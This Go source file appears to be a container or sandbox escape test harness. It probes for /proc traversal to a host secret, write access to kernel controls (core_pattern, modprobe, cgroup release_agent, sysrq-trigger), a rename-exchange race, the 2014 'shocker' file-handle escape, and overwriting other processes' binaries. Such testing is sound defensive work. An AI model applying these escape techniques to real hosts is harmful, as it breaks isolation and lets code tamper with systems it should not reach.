package main

import (
	"bufio"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// prowl looks, until SIGTERM, at all processes for a descriptor, directory or binary of the node's: secret is a file of
// the node that must not be found, whatever way leads to it. With write it also tries to write to their binaries.
func prowl(secret string, write bool) {
	over := terminated()
	p := prowler{secret: secret, seen: map[string]bool{}}
	p.self, _ = fileID("/proc/self/exe")
	for !over.Load() {
		dirs, err := filepath.Glob("/proc/[0-9]*")
		if err != nil {
			fmt.Println(err)
		}
		for _, dir := range dirs {
			p.look(dir)
		}
		if write {
			p.writeBinaries()
		}
	}
	fmt.Println("binaries", len(p.binaries))
}

type prowler struct {
	secret   string
	self     [2]uint64
	seen     map[string]bool
	binaries []int // O_PATH descriptors of others' programs
}

func fileID(path string) ([2]uint64, error) {
	var st unix.Stat_t
	err := unix.Stat(path, &st)
	return [2]uint64{st.Dev, st.Ino}, err
}

func (p *prowler) look(dir string) {
	climb(dir+"/cwd", p.secret)
	climb(dir+"/root", p.secret)
	fds, err := filepath.Glob(dir + "/fd/*")
	if err != nil {
		return
	}
	for _, fd := range fds {
		climb(fd, p.secret)
	}
	exe := dir + "/exe"
	id, err := fileID(exe)
	if err != nil || id == p.self || p.seen[fmt.Sprint(id)] || len(p.binaries) > 64 {
		return
	}
	fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	p.seen[fmt.Sprint(id)] = true
	p.binaries = append(p.binaries, fd)
}

// writeBinaries writes the first byte of the programs that others ran, as it is, once they no longer run.
func (p *prowler) writeBinaries() {
	for _, fd := range p.binaries {
		path := "/proc/self/fd/" + strconv.Itoa(fd)
		w, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue // running, or read-only
		}
		if _, err := unix.Pwrite(w, []byte{0x7f}, 0); err == nil {
			name, _ := os.Readlink(path)
			escaped("wrote to the binary %s", name)
		}
		unix.Close(w)
	}
}

// climb tries to reach the secret upwards from a directory.
func climb(dir, secret string) {
	fd, err := unix.Open(dir, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	defer unix.Close(fd)
	for _, path := range []string{strings.Repeat("../", 24) + secret, strings.TrimPrefix(secret, "/"), filepath.Base(secret)} {
		found, err := unix.Openat(fd, path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		text := make([]byte, 64)
		if n, err := unix.Read(found, text); err == nil && strings.HasPrefix(string(text[:n]), "secret of the node") {
			escaped("read the node's file through %s", dir)
		}
		unix.Close(found)
	}
}

func climbCWD(secret string) {
	climb(".", secret)
	climb("/proc/self/cwd", secret)
	cwd, err := os.Getwd()
	fmt.Println("cwd", cwd, err)
}

// searchMounts tries to reach the secret from every mount point.
func searchMounts(secret string) {
	f, err := os.Open("/proc/self/mountinfo")
	if err != nil {
		fmt.Println(err)
		return
	}
	defer f.Close()
	for lines := bufio.NewScanner(f); lines.Scan(); {
		climb(strings.Fields(lines.Text())[4], secret)
	}
}

// swap exchanges two names until SIGTERM.
func swap(a, b string) {
	over := terminated()
	for !over.Load() {
		if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
			fmt.Println(err)
			return
		}
	}
}

// writes opens what rules the node for writing. Opening alone does no harm.
func writes() {
	for _, path := range []string{
		"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/proc/sys/vm/panic_on_oom",
		"/proc/sys/kernel/panic", "/proc/sys/fs/binfmt_misc/register", "/proc/sys/net/ipv4/ip_forward", "/proc/sysrq-trigger",
		"/proc/kcore", "/proc/kmem", "/proc/irq/default_smp_affinity", "/proc/acpi/wakeup", "/proc/mtrr", "/proc/bus/pci/00/00.0",
		"/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/ksm/run", "/sys/module/kernel/parameters/panic",
		"/sys/class/mem/null/uevent", "/sys/firmware/efi/vars", "/sys/kernel/debug/x", "/sys/kernel/security/x",
	} {
		tryWrite(path)
	}
	agents, err := filepath.Glob("/sys/fs/cgroup/*/release_agent")
	if err != nil {
		fmt.Println(err)
	}
	own, err := filepath.Glob("/sys/fs/cgroup/*/*") // limits of its own
	if err != nil {
		fmt.Println(err)
	}
	for _, path := range append(append(agents, own...), "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/cgroup.procs") {
		tryWrite(path)
	}
}

func tryWrite(path string) {
	info, err := os.Stat(path)
	if err != nil || info.IsDir() || info.Mode()&os.ModeDevice != 0 {
		return // masked files are /dev/null
	}
	f, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err != nil {
		return
	}
	f.Close()
	escaped("opened %s for writing", path)
}

// put writes text to each file, whatever comes of it: the test looks at the node.
func put(text string, paths []string) {
	for _, path := range paths {
		f, err := os.OpenFile(path, os.O_WRONLY, 0)
		if err != nil {
			fmt.Println(err)
			continue
		}
		_, err = f.WriteString(text)
		fmt.Println(path, err)
		f.Close()
	}
}

// proc checks that /proc is the real one and masked.
func proc() {
	var st unix.Statfs_t
	if err := unix.Statfs("/proc", &st); err != nil || st.Type != unix.PROC_SUPER_MAGIC {
		escaped("/proc is not procfs: %#x %v", st.Type, err)
	}
	for _, path := range []string{"/proc/timer_list", "/proc/keys", "/proc/interrupts"} {
		if data, err := os.ReadFile(path); err == nil && len(data) > 0 {
			escaped("read %s", path)
		}
	}
	writes()
}

// shocker opens the node's file by a handle, as the exploit of that name did in 2014 for inode 2, the root of a file
// system: path is anything on the wanted file system.
func shocker(path string) {
	mount, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		fmt.Println(err)
		return
	}
	handle := unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})
	if fd, err := unix.OpenByHandleAt(mount, handle, unix.O_RDONLY); err == nil {
		escaped("opened inode 2 of %s: %d", path, fd)
	} else {
		fmt.Println(err)
	}
}
